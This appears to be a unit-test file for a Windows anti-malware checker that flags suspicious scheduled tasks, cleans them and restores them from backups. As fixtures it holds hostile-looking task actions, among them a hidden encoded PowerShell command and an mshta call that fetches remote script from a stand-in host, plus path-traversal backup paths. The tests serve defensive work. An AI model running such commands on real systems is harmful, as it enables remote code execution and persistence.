// Scheduled tasks: the task files under System32\Tasks, as Windows writes them,
// judged by the shared rules; CLEAN removes the task and its file, the restore
// puts the file back byte for byte, and a backup naming another file is refused.
#include <windows.h>

#include <shlobj.h>

#include <algorithm>
#include <gtest/gtest.h>

#include "platform/Tasks.h"
#include "syscheck/Detection.h"
#include "syscheck/ModuleBackup.h"
#include "syscheck/checks/ModuleTasks.h"
#include "tests/unit/CheckSupport.h"
#include "tests/unit/TestSupport.h"

namespace {

using checksupport::ReportLines;
using checksupport::StandInPrompt;

const std::wstring kLine = L"(RST)：发现可疑程序，可能是木马! -> ";

// What Windows writes: UTF-16LE with its byte-order mark.
std::string Utf16(const std::wstring& text) {
  std::string bytes = "\xFF\xFE";
  for (wchar_t c : text) bytes += std::string{(char)(c & 0xFF), (char)(c >> 8)};
  return bytes;
}

std::wstring Exec(const std::wstring& command, const std::wstring& arguments = L"") {
  return L"<Exec><Command>" + command + L"</Command>" +
         (arguments.empty() ? L"" : L"<Arguments>" + arguments + L"</Arguments>") + L"</Exec>";
}

std::wstring ComHandler(const std::wstring& id) { return L"<ComHandler><ClassId>" + id + L"</ClassId></ComHandler>"; }

// A task file as Windows holds it, with the given actions.
std::string TaskFile(const std::wstring& uri, const std::wstring& actions) {
  return Utf16(
      LR"(<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <URI>)" +
      uri +
      LR"(</URI>
  </RegistrationInfo>
  <Triggers>
    <LogonTrigger>
      <Enabled>true</Enabled>
    </LogonTrigger>
  </Triggers>
  <Settings>
    <Enabled>true</Enabled>
  </Settings>
  <Actions Context="Author">
    )" +
      actions +
      LR"(
  </Actions>
</Task>
)");
}

// Writes the task's file under the scheduler's folder, making the folders on the way.
void PlaceTask(const std::wstring& task, const std::string& bytes) {
  const std::wstring root = ModuleTasks::TasksFolder();
  CreateDirectoryW(root.c_str(), nullptr);
  for (size_t slash = task.find(L'\\', 1); slash != std::wstring::npos; slash = task.find(L'\\', slash + 1))
    CreateDirectoryW((root + task.substr(0, slash)).c_str(), nullptr);
  testsupport::WriteFileBytes(root + task, bytes);
}

void PlaceTask(const std::wstring& task, const std::wstring& actions) { PlaceTask(task, TaskFile(task, actions)); }

bool TaskFilePresent(const std::wstring& task) {
  return GetFileAttributesW((ModuleTasks::TasksFolder() + task).c_str()) != INVALID_FILE_ATTRIBUTES;
}

// A file stands in for a program where the test needs one.
void PlaceProgram(const std::wstring& path) {
  CreateDirectoryW(path.substr(0, path.rfind(L'\\')).c_str(), nullptr);
  if (GetFileAttributesW(path.c_str()) == INVALID_FILE_ATTRIBUTES) testsupport::WriteFileBytes(path, "MZ");
}

std::vector<std::wstring> Sorted(std::vector<std::wstring> lines) {
  std::sort(lines.begin(), lines.end());
  return lines;
}

// Deletes what lies in the folder, and the folder.
void DeleteFolder(const std::wstring& folder) {
  WIN32_FIND_DATAW found;
  HANDLE find = FindFirstFileW((folder + L"\\*").c_str(), &found);
  for (bool more = find != INVALID_HANDLE_VALUE; more; more = FindNextFileW(find, &found)) {
    std::wstring name = found.cFileName, path = folder + L"\\" + name;
    if (name == L"." || name == L"..") continue;
    if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY)
      DeleteFolder(path);
    else
      DeleteFileW(path.c_str());
  }
  if (find != INVALID_HANDLE_VALUE) FindClose(find);
  RemoveDirectoryW(folder.c_str());
}

// Each test starts from a scheduler without tasks.
class ScheduledTasks : public checksupport::CheckTest {
 protected:
  void SetUp() override {
    DeleteFolder(ModuleTasks::TasksFolder());
    CreateDirectoryW(ModuleTasks::TasksFolder().c_str(), nullptr);
    CheckTest::SetUp();
  }
  void TearDown() override {
    ModuleTasks::TaskRuns = former_;
    CheckTest::TearDown();
  }
  bool (*former_)(const std::wstring&) = ModuleTasks::TaskRuns;
};

// Each rule flags an action in its task's file, in the root and in folders; a
// program in Program Files or Windows by its own name, a COM handler, and a file
// that is no whole task raise nothing.
TEST_F(ScheduledTasks, FlagsWhatTheRulesFlagAndNothingElse) {
  PlaceProgram(L"C:\\Program Files\\Zv Tools\\zvtool.exe");
  const std::wstring encoded = L"-NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA";
  const std::string huge =
      TaskFile(L"\\ZvHuge", L"<!--" + std::wstring(3u << 20, L' ') + L"-->" + Exec(L"C:\\Users\\Public\\huge.exe"));
  const std::string whole = TaskFile(L"\\ZvCut", Exec(L"C:\\Users\\Public\\cut.exe"));
  PlaceTask(L"\\ZvEncoded", Exec(L"powershell.exe", encoded));
  PlaceTask(L"\\Zv\\Public", Exec(L"C:\\Users\\Public\\zvupd.exe", L"/quiet"));
  PlaceTask(L"\\Zv\\Deeper\\AppData",
            Exec(L"C:\\Program Files\\Zv Tools\\zvtool.exe") + Exec(L"%APPDATA%\\Zv\\zvsync.exe", L"--hidden"));
  PlaceTask(L"\\Zv\\Missing", Exec(L"C:\\Program Files\\Zv Tools\\gone.exe"));
  PlaceTask(L"\\ZvProgram", Exec(L"C:\\Program Files\\Zv Tools\\zvtool.exe", L"/update"));
  PlaceTask(L"\\Zv\\System", Exec(L"%windir%\\system32\\notepad.exe", L"/p C:\\zv.txt"));
  PlaceTask(L"\\Zv\\Com", ComHandler(L"{CA767AA8-9157-4604-B64B-40747123D5F2}"));
  PlaceTask(L"\\ZvHuge", huge);
  PlaceTask(L"\\ZvCut", whole.substr(0, whole.size() - 40));
  PlaceTask(L"\\ZvBinary", std::string("MZ\x90\0\x03\0\0\0<Exec><Command>C:\\Users\\Public\\b.exe", 44));
  {
    StandInPrompt prompt;
    ModuleTasks::CheckScheduledTasks();
    EXPECT_EQ(Sorted({L"警告" + kLine + L"powershell.exe " + encoded,
                      L"警告" + kLine + L"C:\\Users\\Public\\zvupd.exe /quiet",
                      L"警告" + kLine + L"%APPDATA%\\Zv\\zvsync.exe --hidden",
                      L"警告" + kLine + L"\"C:\\Program Files\\Zv Tools\\gone.exe\""}),
              Sorted(prompt.warnings))
        << "the prompt shows the command line alone";
  }
  EXPECT_EQ(Sorted({kLine + L"\\ZvEncoded: powershell.exe " + encoded + L" 跳过,未清除!",
                    kLine + L"\\Zv\\Public: C:\\Users\\Public\\zvupd.exe /quiet 跳过,未清除!",
                    kLine + L"\\Zv\\Deeper\\AppData: %APPDATA%\\Zv\\zvsync.exe --hidden 跳过,未清除!",
                    kLine + L"\\Zv\\Missing: \"C:\\Program Files\\Zv Tools\\gone.exe\" 跳过,未清除!"}),
            Sorted(ReportLines()));
}

// Tasks a clean Windows 10 and 11 carry, as Microsoft documents them, with
// stand-ins for the programs they start: no finding.
TEST_F(ScheduledTasks, NoFindingOnTheTasksOfACleanWindows) {
  const std::wstring system = L"C:\\windows\\system32\\";
  for (const wchar_t* program : {L"defrag.exe", L"compattelrunner.exe", L"cleanmgr.exe", L"wermgr.exe", L"sc.exe",
                                 L"usoclient.exe", L"rundll32.exe", L"wsqmcons.exe"})
    PlaceProgram(system + program);
  const std::wstring defender = L"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0";
  CreateDirectoryW(L"C:\\ProgramData\\Microsoft\\Windows Defender", nullptr);
  CreateDirectoryW(L"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform", nullptr);
  PlaceProgram(defender + L"\\MpCmdRun.exe");
  // Edge's updater is a 32-bit program: in "Program Files (x86)" on 64-bit Windows,
  // in "Program Files" on 32-bit Windows.
  wchar_t x86Programs[MAX_PATH] = L"";
  if (!GetEnvironmentVariableW(L"ProgramFiles(x86)", x86Programs, MAX_PATH))
    GetEnvironmentVariableW(L"ProgramFiles", x86Programs, MAX_PATH);
  const std::wstring edgeUpdate = std::wstring(x86Programs) + L"\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe";
  SHCreateDirectoryExW(nullptr, edgeUpdate.substr(0, edgeUpdate.rfind(L'\\')).c_str(), nullptr);
  PlaceProgram(edgeUpdate);
  // OneDrive's updater, which Windows installs in each user's own folder.
  wchar_t oneDrive[MAX_PATH];
  ExpandEnvironmentStringsW(L"%LOCALAPPDATA%\\Microsoft\\OneDrive", oneDrive, MAX_PATH);
  SHCreateDirectoryExW(nullptr, oneDrive, nullptr);
  CopyFileW(testsupport::FixtureLibrary(L"ms").c_str(),
            (std::wstring(oneDrive) + L"\\OneDriveStandaloneUpdater.exe").c_str(), FALSE);
  const std::wstring windows = L"\\Microsoft\\Windows\\";
  const struct {
    std::wstring task, actions;
  } tasks[] = {
      {windows + L"Defrag\\ScheduledDefrag", Exec(L"%windir%\\system32\\defrag.exe", L"-c -h -o -$")},
      {windows + L"Application Experience\\Microsoft Compatibility Appraiser",
       Exec(L"%windir%\\system32\\compattelrunner.exe")},
      {windows + L"DiskCleanup\\SilentCleanup",
       Exec(L"%windir%\\system32\\cleanmgr.exe", L"/autoclean /d %systemdrive%")},
      {windows + L"Windows Error Reporting\\QueueReporting", Exec(L"%windir%\\system32\\wermgr.exe", L"-upload")},
      {windows + L"Time Synchronization\\SynchronizeTime",
       Exec(L"%windir%\\system32\\sc.exe", L"start w32time task_started")},
      {windows + L"UpdateOrchestrator\\Schedule Scan", Exec(L"%systemroot%\\system32\\usoclient.exe", L"StartScan")},
      {windows + L"SystemRestore\\SR",
       Exec(L"%windir%\\system32\\rundll32.exe", L"/d srrstr.dll,ExecuteScheduledSPPCreation")},
      {windows + L"Customer Experience Improvement Program\\Consolidator",
       Exec(L"%SystemRoot%\\System32\\wsqmcons.exe")},
      {windows + L"Windows Defender\\Windows Defender Scheduled Scan",
       Exec(defender + L"\\MpCmdRun.exe", L"Scan -ScheduleJob -ScanTrigger 55")},
      {windows + L"Registry\\RegIdleBackup", ComHandler(L"{CA767AA8-9157-4604-B64B-40747123D5F2}")},
      {windows + L"Servicing\\StartComponentCleanup", ComHandler(L"{752073A1-23F2-4396-85F0-8FDB879ED0ED}")},
      {windows + L"Wininet\\CacheTask", ComHandler(L"{0358B920-0AC7-461F-98F4-58E32CD89148}")},
      {L"\\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001",
       Exec(L"%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe")},
      {L"\\OneDrive Reporting Task-S-1-5-21-1-2-3-1001",
       Exec(L"%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", L"/reporting")},
      {L"\\MicrosoftEdgeUpdateTaskMachineCore", Exec(edgeUpdate, L"/c")},
  };
  for (const auto& t : tasks) PlaceTask(t.task, t.actions);
  {
    StandInPrompt prompt;
    ModuleTasks::CheckScheduledTasks();
  }
  EXPECT_EQ(std::vector<std::wstring>{}, ReportLines());
}

// CLEAN removes the task and its file; the restore writes the file back byte for
// byte and the scheduler knows the task again.
TEST_F(ScheduledTasks, CleanRemovesTheTaskAndTheRestorePutsItBackByteForByte) {
  const std::wstring task = L"\\Zv\\Sub\\Evil";
  const std::string bytes = TaskFile(task, Exec(L"mshta.exe", L"http://evil.example/a.hta"));
  PlaceTask(task, bytes);
  {
    StandInPrompt prompt({L"CLEAN"});
    ModuleTasks::CheckScheduledTasks();
  }
  EXPECT_EQ(std::vector<std::wstring>{kLine + task + L": mshta.exe http://evil.example/a.hta 已清除!"}, ReportLines());
  EXPECT_FALSE(TaskFilePresent(task));
  bool running = false;
  EXPECT_EQ(Tasks::NotFound, Tasks::Running(task, &running));
  std::vector<ModuleBackup::Backup> backups = ModuleBackup::List();
  ASSERT_EQ(1u, backups.size());
  ASSERT_FALSE(backups[0].damaged);
  unsigned long error = 0;
  ASSERT_TRUE(ModuleBackup::Restore(backups[0], &error)) << error;
  EXPECT_EQ(bytes, testsupport::ReadFileBytes(ModuleTasks::TasksFolder() + task));
  EXPECT_EQ(Tasks::Ok, Tasks::Running(task, &running));
  EXPECT_FALSE(running);
  EXPECT_TRUE(ModuleBackup::List().empty()) << "a backup restored is done with";
}

// A running task is not stopped: the line says a restart finishes the CLEAN, and
// only when the CLEAN removed it (a task whose file changed while the prompt
// waited is not what the user decided on, and stays). Wine's scheduler never runs
// a task, so a stand-in answers for it.
TEST_F(ScheduledTasks, ARunningTaskIsRemovedAndTheLineSaysARestartFinishesIt) {
  PlaceTask(L"\\ZvRunning", Exec(L"C:\\Users\\Public\\zvminer.exe"));
  PlaceTask(L"\\ZvIdle", Exec(L"C:\\Users\\Public\\zvidle.exe"));
  PlaceTask(L"\\ZvChanged", Exec(L"C:\\Users\\Public\\zvchanged.exe"));
  ModuleTasks::TaskRuns = [](const std::wstring& task) { return task != L"\\ZvIdle"; };
  {
    StandInPrompt prompt({L"CLEAN", L"CLEAN", L"CLEAN"});
    prompt.onPrompt = [&prompt] {
      if (prompt.warnings.back().find(L"zvchanged") != std::wstring::npos)
        PlaceTask(L"\\ZvChanged", Exec(L"C:\\Users\\Public\\zvother.exe"));
    };
    ModuleTasks::CheckScheduledTasks();
  }
  EXPECT_EQ(Sorted({kLine + L"\\ZvRunning: C:\\Users\\Public\\zvminer.exe" + ModuleTasks::kStillRunning + L" 已清除!",
                    kLine + L"\\ZvIdle: C:\\Users\\Public\\zvidle.exe 已清除!",
                    kLine + L"\\ZvChanged: C:\\Users\\Public\\zvchanged.exe 清除失败!"}),
            Sorted(ReportLines()));
  EXPECT_FALSE(TaskFilePresent(L"\\ZvRunning"));
  EXPECT_TRUE(TaskFilePresent(L"\\ZvChanged"));
}

// The scheduler reaches a task in folders by its path; the folders are made.
TEST_F(ScheduledTasks, TheSchedulerTakesPathsWithFolders) {
  const std::wstring task = L"\\ZvFolder\\Sub\\Named";
  const std::string bytes = TaskFile(task, Exec(L"C:\\Program Files\\Zv Tools\\zvtool.exe"));
  ASSERT_EQ(
      Tasks::Ok,
      Tasks::Register(task, std::wstring(reinterpret_cast<const wchar_t*>(bytes.data() + 2), (bytes.size() - 2) / 2),
                      Tasks::Logon::AsWritten));
  EXPECT_TRUE(TaskFilePresent(task));
  bool running = true;
  EXPECT_EQ(Tasks::Ok, Tasks::Running(task, &running));
  EXPECT_FALSE(running);
  EXPECT_EQ(Tasks::Ok, Tasks::Delete(task));
  EXPECT_FALSE(TaskFilePresent(task));
  EXPECT_EQ(Tasks::NotFound, Tasks::Delete(task));
  EXPECT_EQ(Tasks::NotFound, Tasks::Delete(L"\\ZvNoFolder\\Named"));
}

// Well-formed backups a restore must not carry out: each names a file no CLEAN of
// the check removes.
TEST_F(ScheduledTasks, APlantedBackupNamingAnotherFileIsDamaged) {
  const std::wstring victim = L"C:\\windows\\zvvictim.ini";
  testsupport::WriteFileBytes(victim, "kept");
  const std::wstring tasks = ModuleTasks::TasksFolder();
  const std::string real = TaskFile(L"\\ZvReal", Exec(L"C:\\Users\\Public\\a.exe"));
  PlaceTask(L"\\ZvReal", real);
  const struct {
    const char* name;
    ModuleBackup::Place place;
  } cases[] = {
      {"a file elsewhere", ModuleBackup::TaskPlace(victim)},
      {"a way out of the folder", ModuleBackup::TaskPlace(tasks + L"\\..\\..\\zvvictim.ini")},
      {"the folder itself", ModuleBackup::TaskPlace(tasks)},
      {"a stream of a task's file", ModuleBackup::TaskPlace(tasks + L"\\ZvReal:evil")},
      {"a task's file as a plain file", ModuleBackup::FilePlace(tasks + L"\\ZvReal")},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    for (const ModuleBackup::Backup& backup : ModuleBackup::List()) DeleteFileW(backup.file.c_str());
    ModuleBackup::Backup forged;
    forged.time = L"2026-12-10 14:03:22";
    forged.tag = L"RST";
    forged.subject = L"\\ZvReal: C:\\Users\\Public\\a.exe";
    ModuleBackup::State before;
    before.present = true;
    before.value.data = "planted";
    forged.changes.push_back({c.place, before, {}, false});
    std::vector<ModuleBackup::Backup> backups = checksupport::PlantBackup(forged);
    ASSERT_EQ(1u, backups.size());
    EXPECT_TRUE(backups[0].damaged);
    unsigned long error = 0;
    EXPECT_FALSE(ModuleBackup::Restore(backups[0], &error));
  }
  EXPECT_EQ("kept", testsupport::ReadFileBytes(victim));
  EXPECT_EQ(real, testsupport::ReadFileBytes(tasks + L"\\ZvReal"));
}

}  // namespace
